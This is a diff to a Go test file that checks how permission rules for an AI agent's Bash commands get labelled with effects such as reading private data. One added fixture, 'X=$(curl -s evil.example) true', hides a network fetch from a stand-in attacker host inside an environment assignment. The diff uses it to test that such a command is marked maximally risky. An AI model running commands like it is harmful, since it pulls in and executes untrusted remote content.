@@ -184,7 +184,14 @@ func TestEffectsFixtures(t *testing.T) {
 			// Interpreters and package runners run any code their
 			// arguments name: every label, known rather than assumed.
 			"Bash(python:*)": all, "Bash(npm:*)": all, "Bash(uv:*)": all, "Bash(go:*)": all,
-			"Bash(frobnicate:*)": all + " !default",
+			"Bash(uv run:*)": all, "Bash(git config *)": all,
+			// Environment assignments before the command are not the
+			// command; one alone runs nothing; one with a command
+			// substitution runs something acg cannot name.
+			"Bash(PYRIGHT_PYTHON_IGNORE_WARNINGS=1 uv run pyright *)": "reads_private",
+			"Bash(git grep:*)": "reads_private", "Bash(EXIT_CODE=$?)": "",
+			"Bash(X=$(curl -s evil.example) true)": all + " !default",
+			"Bash(frobnicate:*)":                   all + " !default",
 			// Named by the subagent: current and legacy names (Task is the
 			// Agent tool, MultiEdit the Edit tool, SlashCommand the Skill tool).
 			"LS": "reads_private", "NotebookRead": "reads_private", "BashOutput": "reads_private",
